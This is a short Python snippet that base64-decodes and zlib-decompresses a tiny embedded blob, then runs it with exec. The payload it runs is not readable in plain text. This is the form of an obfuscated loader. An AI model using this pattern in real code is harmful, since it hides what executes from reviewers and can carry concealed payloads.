import zlib, base64
blob = "eJwrKC3KTy/KzE0FABeZBJ8="
stage = zlib.decompress(base64.b64decode(blob))
exec(compile(stage, "x", "exec"))
